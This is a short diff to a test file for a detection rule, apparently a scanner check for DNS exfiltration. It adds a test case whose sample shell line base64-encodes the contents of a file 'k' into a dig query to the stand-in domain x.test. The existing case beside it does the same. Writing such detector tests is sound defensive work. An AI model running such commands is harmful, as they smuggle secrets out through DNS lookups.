@@ -93,6 +93,11 @@ ruleCases(beacon, {
 ruleCases(dnsData, {
   hits: [
     {
+      name: 'data behind a date',
+      path: 'a.sh',
+      text: 'dig "$(date +%s; base64 < k).x.test"\n',
+    },
+    {
       name: 'a secret beside a random part',
       path: 'a.sh',
       text: 'dig "$(date +%s).$(base64 < k).x.test"\n',
